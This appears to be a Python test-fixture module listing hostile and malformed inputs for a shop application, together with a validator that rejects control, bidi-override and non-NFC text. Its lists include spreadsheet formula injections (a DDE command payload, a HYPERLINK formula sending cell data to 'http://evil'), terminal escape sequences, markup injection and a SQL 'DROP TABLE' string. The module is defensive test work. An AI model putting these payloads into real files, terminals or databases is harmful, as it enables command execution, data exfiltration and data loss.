"""The texts that people with bad intent, bad luck or another keyboard put into a shop.

Every list is complete by itself; what is added here is tried at every entrance and on every screen.
"""

import unicodedata

MARKUP = (
    *("[/]", "[/red]", "An [/ VIP", "[red]", "[b]An[/b]", "An [b", "[@click=app.quit]An[/]"),
    *("[link=http://x]y[/link]", '[1,"3"]', "\\[red]", "An\\", "[$primary]", ":smile:"),
)
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
TERMINAL = (
    *("\x1b[31mAn\x1b[2J", "\x1b]0;x\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b]8;;http://evil\x1b\\An"),
    *("\x9b31m", "\0", "\a", "\b", "\x7f", "\r", "\n", "\t", "\u2028", "\u202eabc", "\u2066x"),
    *("\u200b", "\ufeff", "\ud800", "\uffff", FAMILY, "A" + 200 * "\u0301", 10_000 * "A"),
    *("สมชาย ใจดี", "Hà", "Ha\u0300", "", "   "),
)
SPREADSHEET = (
    *("=1+1", "=cmd|' /C calc'!A0", "+84901234567", "-5+3", "@SUM(1)", "\t=1+1", "\r=1+1"),
    *("\n=1+1", "＝1+1", " =1+1", "'=1+1", '=HYPERLINK("http://evil/?"&A1,"x")', "#N/A", "#REF!"),
    *("_x0041_", 40_000 * "A"),
)
SEGMENTS = ("pointz", 'name"; DROP TABLE customer;--', "%", "_")

PHONES = ("901234567", "901234567.0", "0901 234 567", "+84 901 234 567")
MONEY = (
    *("1.250.000 đ", "1,250,000", "1.250", "1_000", "nan", "1e5", "Infinity", "²", "๑๒๓", "１２３"),
    "9223372036854775808",
)
DATES = (
    *("03/02/2026", "31/12/2026", "2026-02-30", "29/02/2025", "13/02/2569", "๑๓/๐๒/๒๕๖๙"),
    *("0", "60", "-5", "46056", "3000000"),
)
VALUES = (*PHONES, *MONEY, *DATES)

TEXTS = (*MARKUP, *TERMINAL, *SPREADSHEET, *SEGMENTS, *VALUES)

# A file's first bytes, what they mean, and the encoding the owner has to choose ("" for none).
ENCODED = (
    (b"\xef\xbb\xbf" + "Nguyễn".encode(), "Nguyễn", ""),
    (b"\xff\xfe" + "Nguyễn".encode("utf-16-le"), "Nguyễn", ""),
    ("Nguyễn".encode("utf-16-le"), "Nguyễn", ""),
    (bytes.fromhex("4e677579eade6e"), "Nguyễn", "cp1258"),
    (bytes.fromhex("cac1aad2c220e3a8b4d5"), "สมชาย ใจดี", "cp874"),
)

_OVERRIDES = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def acting(text: str) -> set[str]:
    """The characters of a text that a terminal obeys, or that reorder or break its lines."""
    return {each for each in set(text) if _acts(each)}


def _acts(letter: str) -> bool:
    return letter in _OVERRIDES or unicodedata.category(letter) in ("Cc", "Cs", "Cn", "Zl", "Zp")


def is_fit_to_store(text: str, *, lines: bool = False) -> bool:
    """Whether the text is NFC and nothing in it acts; line ends only where a text may have them."""
    found = acting(text) - ({"\n"} if lines else set())
    return not found and text == unicodedata.normalize("NFC", text)
